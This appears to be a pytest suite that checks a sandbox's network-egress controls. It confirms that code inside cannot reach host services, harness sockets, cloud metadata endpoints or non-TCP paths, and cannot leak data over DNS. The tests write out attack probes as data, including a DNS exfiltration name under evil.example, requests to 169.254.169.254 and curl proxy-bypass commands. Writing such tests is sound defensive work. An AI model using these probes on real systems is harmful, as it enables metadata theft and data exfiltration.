"""Section C for a world with ways out: by proxy alone, and by the transparent way too (SPEC N1, N2, N7, N9, N10)."""

from __future__ import annotations

import ipaddress
import json
import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from world import LiveCell, until

from cell.egress.pool import BLOCK
from cell.policy.peers import Peer

from .bench import answered, asking, attack, connecting, conversed, direct, get, init_of, to_proxy
from .internet import NIC, NIC_6, PUBLIC, RESOLVER, Audit, Internet, spec

pytestmark = pytest.mark.live
Worlds = Callable[..., LiveCell]

PEER = Peer(name="db", port=5432, host="127.0.0.1", target=80)
VERIFIER = spec("public", key="verifier.network_mode")
FAR = (
    "8.8.8.8",
    "1.1.1.1",
    "192.0.2.1",
    "169.254.169.254",
    "10.0.0.1",
    "198.18.0.1",
    "224.0.0.1",
    NIC,
    PUBLIC,
)
FAR_6 = ("2001:4860:4860::8888", "fd00:ec2::254", "fe80::1", "64:ff9b::a9fe:a9fe", NIC_6)
NOWHERE = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EINVAL", "ECONNREFUSED", "EACCES"}
UNKNOWN = {"EPROTONOSUPPORT", "ESOCKTNOSUPPORT"}


@dataclass
class Way:
    """A world, and what is meant to be there."""

    cell: LiveCell
    mode: str
    transparent: bool

    def refusals(self, audit: Audit, **wanted: Any) -> list[dict[str, Any]]:
        """The records of a transparent way; a proxy alone has none of what never came to it."""
        found = audit.all(way="transparent", **wanted)
        assert bool(found) == self.transparent
        for one in found:
            assert not one["allowed"] and one["phase"] == "agent" and one["rule"] and one["reason"], one
            assert ".py" in one["command"], one
        return found


@pytest.fixture(
    scope="module",
    params=["allowlist, proxy only", "public, proxy only", "allowlist, transparent", "public, transparent"],
)
def way(request: pytest.FixtureRequest, worlds: Worlds) -> Iterator[Way]:
    mode, _, kind = request.param.partition(", ")
    hosts = ("example.com",) if mode == "allowlist" else ()
    transparent = kind == "transparent"
    yield Way(
        worlds(mode, *hosts, proxy_only=not transparent, peers=(PEER,), verifier_phase=VERIFIER),
        mode,
        transparent,
    )


def at(address: str, port: int) -> str:
    """An end as /proc/net/tcp and its like have it."""
    packed = ipaddress.ip_address(address).packed
    words = [packed[n : n + 4][::-1].hex() for n in range(0, len(packed), 4)]
    return f"{''.join(words)}:{port:04X}".upper()


def test_035_what_is_there_is_the_modes_row(way: Way) -> None:
    told = attack(way.cell, "network")
    assert (told["interfaces"], told["sysfs"]) == (["lo"], ["lo"])
    assert (told["routes"], told["neighbours"], told["unix"]) == ([], [], [])
    assert set(told["routes 6"]) <= {"lo"} and set(told["addresses 6"]) <= {"lo"}
    heard = {kind: sorted(found) for kind, found in told["sockets"].items() if found}
    if way.transparent:
        assert heard == {
            "tcp": sorted([at("127.0.0.1", 3128), at("127.0.0.1", 53), at("127.0.0.1", 5432)]),
            "tcp6": [at("::1", 3128)],
            "udp": [at("127.0.0.1", 53)],
        }
        assert [line for line in told["resolv"] if line] == ["nameserver 127.0.0.1"]
    else:
        assert heard == {"tcp": sorted([at("127.0.0.1", 3128), at("127.0.0.1", 5432)])}
        assert [line for line in told["resolv"] if line] == []
    assert {name.lower() for name in told["proxies"]} >= {"http_proxy", "https_proxy", "no_proxy"}
    assert [line.split()[0] for line in told["hosts"] if "db" in line.split()] == ["127.0.0.1"]


@pytest.fixture
def secret(internet: Internet) -> int:
    """The port of a service of the substrate, which tells a secret to who connects."""
    return internet.near.serve(lambda link: link.sendall(b"S3CRET"))


def test_036_no_service_of_the_substrate_is_reached(way: Way, internet: Internet, secret: int) -> None:
    internet.names |= {
        "substrate.example": [NIC],
        "loop.example": ["127.0.0.1"],
        "loop6.example": ["::1", NIC_6],
    }
    hosts = (
        "127.0.0.1",
        "127.0.1.1",
        "::1",
        NIC,
        NIC_6,
        "substrate.example",
        "loop.example",
        "loop6.example",
        "0.0.0.0",
    )
    audit = Audit(way.cell)
    told = conversed(way.cell, *([host, secret] for host in hosts))
    for host, one in zip(hosts, told, strict=True):
        own = host.startswith("127.") or host in ("::1", "0.0.0.0")
        named = host.endswith("example")
        wanted = (
            "ECONNREFUSED"
            if own
            else "reset"
            if way.transparent
            else "no such name"
            if named
            else "ENETUNREACH"
        )
        assert (one["got"], one["how"]) == ("", wanted), (host, one)
    way.refusals(audit)
    audit = Audit(way.cell)
    told = conversed(
        way.cell,
        *(
            connecting(f"[{host}]:{secret}" if ":" in host else f"{host}:{secret}", {"end": True})
            for host in hosts
        ),
    )
    assert [answered(one) for one in told] == [403] * len(hosts), told
    assert len(audit.all(way="proxy", allowed=False, status=403)) == len(hosts)
    assert [port for _, port in internet.near.came if port == secret] == []
    aims = [["tcp", host, secret] for host in ("127.0.0.1", "127.0.1.1", "::1", NIC, NIC_6)]
    assert {answer for *_, answer in internet.tell("reach", json.dumps(aims))} == {"S3CRET"}, "control"


def test_037_no_channel_to_the_harness(way: Way, internet: Internet) -> None:
    real = sorted(map(str, way.cell.runtime.glob("*.sock")))
    assert len(real) >= 4, "control: the cell's sockets exist"
    abstract = f"\0bench-{way.cell.id}"

    def listening() -> socket.socket:
        one = socket.socket(socket.AF_UNIX)
        one.bind(abstract)
        one.listen()
        return one

    with internet.substrate(listening) as server:
        server.settimeout(0)
        told = attack(way.cell, "sockets", f"@{abstract[1:]}", *real)
        assert told["answers"].pop(f"@{abstract[1:]}") == "ECONNREFUSED"
        assert set(told["answers"].values()) == {"ENOENT"}
        with suppress(BlockingIOError):
            raise AssertionError(server.accept())
        assert [name for name in told["listed"] if "hudtui" in name or way.cell.id in name] == []
    ports = [["127.0.0.1", port, "x"] for port in (22, 80, 2375, 3129, 8080)]
    assert {one["how"] for one in conversed(way.cell, *ports)} == {"ECONNREFUSED"}
    # where the agent may go, its way out is no way back in
    internet.names["localhost"] = ["127.0.0.1", "::1"]
    told = conversed(
        way.cell,
        to_proxy(get("127.0.0.1").replace("/", "/cell", 1)),
        asking("127.0.0.1:3128"),
        connecting("127.0.0.1:3129"),
        connecting("localhost:3128"),
    )
    assert [answered(one) for one in told] == [400, 403, 403, 403], told


def test_039_what_is_not_tcp_gets_nowhere(way: Way, internet: Internet) -> None:
    def listening() -> socket.socket:
        one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        one.bind(("::", 0))
        one.settimeout(0)
        return one

    with internet.beyond(listening) as far, internet.substrate(listening) as near:
        ports = [one.getsockname()[1] for one in (far, near)]
        kinds = ("udp", "icmp", "ping", "raw", "gre", "sctp", "sctp packets")
        aims = [[kind, host, port] for kind in kinds for host in FAR for port in ports]
        aims += [[kind, host, port] for kind in ("udp", "icmp6") for host in FAR_6 for port in ports]
        before, visits = Path(f"/proc/{init_of(way.cell)}/net/dev").read_text(), internet.visits()
        for kind, host, answer in attack(way.cell, "reach", json.dumps(aims)):
            allowed = NOWHERE | UNKNOWN if kind in ("ping", "sctp", "sctp packets") else NOWHERE
            assert answer in allowed, (kind, host, answer)
        assert Path(f"/proc/{init_of(way.cell)}/net/dev").read_text() == before, "not one packet was sent"
        assert internet.visits() == visits
        for one in (far, near):
            with suppress(BlockingIOError):
                raise AssertionError(one.recv(100))

        def sent() -> None:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(b"x", ("8.8.8.8", ports[0]))
                one.sendto(b"x", (NIC, ports[1]))

        internet.substrate(sent)
        for one in (far, near):
            one.settimeout(10)
            assert one.recv(100) == b"x", "control: from the substrate it arrives"


def test_040_a_name_that_is_a_message(way: Way, internet: Internet) -> None:
    visits, audit = len(internet.asked), Audit(way.cell)
    secret = "s3cret-0123456789.evil.example"
    aims = [["udp", server, secret] for server in ("127.0.0.1", "8.8.8.8", RESOLVER)]
    said = attack(way.cell, "asks_names", json.dumps([*aims, ["tcp", "127.0.0.1", secret]]))
    told = {(kind, server): answer for kind, server, _, answer in said}
    (looked_up,) = attack(way.cell, "reach", json.dumps([["name", secret, 80]]))
    assert told["udp", "8.8.8.8"] == told["udp", RESOLVER] == "ENETUNREACH"
    if way.transparent:
        for answer in (told["udp", "127.0.0.1"], told["tcp", "127.0.0.1"]):
            assert ipaddress.ip_address(answer) in BLOCK
        assert not ipaddress.ip_address(looked_up[2]).is_global
        records = audit.all(way="name", host=secret)
        assert records and all(one["rule"] == "name pool" and one["phase"] == "agent" for one in records)
        assert any("asks_names.py" in one["command"] for one in records)
    else:
        assert told["udp", "127.0.0.1"] == told["tcp", "127.0.0.1"] == "ECONNREFUSED"
        assert looked_up[2] == "EAI_AGAIN"
    assert len(internet.asked) == visits, "nothing was asked outside"
    assert not any("s3cret" in name for name in internet.asked)
    conversed(way.cell, asking("example.com"))
    assert internet.asked[visits:] == ["example.com"] * 2, "control: who is asked is seen"
    if way.mode == "allowlist":
        told_ = conversed(way.cell, asking(secret), connecting(secret), direct(secret, 80))
        assert [answered(one) for one in told_] == [403, 403, 0]
        assert len(internet.asked) == visits + 2, "a denied name is not looked up either"


def test_041_the_clouds_metadata(way: Way, internet: Internet) -> None:
    visits, audit = internet.visits(), Audit(way.cell)
    places = ("169.254.169.254", "fd00:ec2::254", "168.63.129.16")
    told = conversed(way.cell, *(direct(place, 80) for place in places))
    assert {one["how"] for one in told} == {"reset" if way.transparent else "ENETUNREACH"}, told
    assert {one["host"] for one in way.refusals(audit)} == (set(places) if way.transparent else set())
    told = conversed(way.cell, asking("169.254.169.254", "/latest/meta-data/"), connecting("[fd00:ec2::254]"))
    assert [answered(one) for one in told] == [403, 403]
    assert internet.visits() == visits
    aims = [["tcp", place, 80] for place in places]
    assert {answer for _, answer in internet.tell("calls_out", json.dumps(aims))} == {"hello"}, (
        "control: it answers"
    )


def test_042_a_client_that_knows_of_no_proxy(way: Way, internet: Internet) -> None:
    audit, before = Audit(way.cell), len(internet.far.came)
    told = conversed(way.cell, direct("example.com", 80), direct(PUBLIC, 80), direct("evil.example", 80))
    public = way.mode == "public"
    if way.transparent:
        assert told[0]["got"].endswith("hello /")
        assert [one["got"].endswith("hello /") for one in told] == [True, public, public], told
        assert len(internet.far.came) == before + 1 + 2 * public
        records = audit.all(way="transparent")
        assert {(one["host"], one["allowed"]) for one in records} == {
            ("example.com", True),
            (PUBLIC, public),
            ("evil.example", public),
        }
        assert all(
            one["phase"] == "agent" and "converse.py" in one["command"] and one["rule"] for one in records
        )
    else:
        assert [one["how"] for one in told] == ["no such name", "ENETUNREACH", "no such name"]
        assert len(internet.far.came) == before and audit.all() == []
    curl = "curl -s -m 10 %s http://example.com/a"
    assert way.cell.inside(curl % "") == "hello /a", "control: by the proxy"
    done = way.cell.ssh(curl % "--noproxy '*'")
    assert (done.stdout == "hello /a") == way.transparent, done
    assert done.returncode == (0 if way.transparent else 6), done


def test_044_n7_the_ports_of_the_ways_are_nobody_elses(way: Way, internet: Internet) -> None:
    everywhere = ("127.0.0.1", "0.0.0.0", "::", "::ffff:127.0.0.1")
    aims = [["tcp", address, port] for address in everywhere for port in (3128, 3129, PEER.port)]
    if way.transparent:
        aims += [["tcp", "::1", 3128]]
        aims += [[kind, address, 53] for kind in ("tcp", "udp") for address in everywhere]
    for kind, address, port, answers in attack(way.cell, "binds", json.dumps(aims)):
        assert answers == ["EADDRINUSE"], (kind, address, port, answers)
    free = attack(way.cell, "binds", json.dumps([["tcp", address, 3130] for address in everywhere]))
    assert [answers for *_, answers in free] == [["ok"]] * 4, "control"
    assert conversed(way.cell, to_proxy("x", port=3129))[0]["how"] == "ECONNREFUSED", (
        "bound, and not listening"
    )
    assert answered(conversed(way.cell, asking("example.com"))[0]) == 200, "and the way out is ours as before"


def test_045_nothing_of_it_can_be_changed(way: Way) -> None:
    told = attack(way.cell, "reconfigure")
    assert told.pop("tun") in {"ENOENT", "EPERM", "EACCES"}
    assert told.pop("sysctl") == "EROFS"
    assert set(told.values()) == {"EPERM"}, told
    assert answered(conversed(way.cell, asking("example.com"))[0]) == 200


def test_048_a_declared_peer_and_nothing_beside_it(way: Way, internet: Internet, secret: int) -> None:
    audit, near = Audit(way.cell), len(internet.near.came)
    told = conversed(way.cell, direct("db", 5432), direct("127.0.0.1", 5432))
    assert [one["got"].rsplit("\r\n", 1)[1] for one in told] == ["hello /"] * 2
    assert internet.near.came[near:] == [("127.0.0.1", 80)] * 2
    records = audit.all(way="peer")
    assert [(one["host"], one["port"], one["allowed"], one["phase"]) for one in records] == [
        ("db", 5432, True, "agent")
    ] * 2
    assert all("converse.py" in one["command"] for one in records)
    assert way.cell.inside("curl -s -m 10 http://db:5432/x") == "hello /x", "no_proxy names it"
    # its port elsewhere, other ports at its name, and its real place
    others = [["db", 80, "x"], ["db", secret, "x"], ["127.0.0.1", secret, "x"], ["127.0.0.2", 5432, "x"]]
    assert [one["how"] for one in conversed(way.cell, *others)] == ["ECONNREFUSED"] * 4
    told = conversed(way.cell, connecting(f"127.0.0.1:{secret}"), connecting("127.0.0.1:80"))
    assert [answered(one) for one in told] == [403, 403]
    assert internet.near.came[near:] == [("127.0.0.1", 80)] * 3


@pytest.mark.parametrize("proxy_only", [True, False])
def test_049_n7_the_first_thing_of_a_session_is_a_call(
    internet: Internet, tmp_path: Path, proxy_only: bool
) -> None:
    cell = internet.cell(
        tmp_path / "trial", agent_phase=spec("allowlist", "example.com"), proxy_only=proxy_only, peers=(PEER,)
    )
    ends = cell.info["identity"]["ends"]["listeners"]
    assert "127.0.0.1:3128" in ends and "127.0.0.1:5432" in ends
    direct_ = "" if proxy_only else "curl -s -S -m 10 --noproxy '*' http://example.com/direct; "
    assert cell.inside(
        f"{direct_}curl -s -S -m 10 http://example.com/proxy; curl -s -S http://db:5432/peer"
    ) == (f"{'' if proxy_only else 'hello /direct'}hello /proxyhello /peer")
    assert until(lambda: len(cell.events("egress-end")) >= 2)
    assert {one["session"] for one in cell.events("egress")} == {1}
    assert cell.stop() == 0
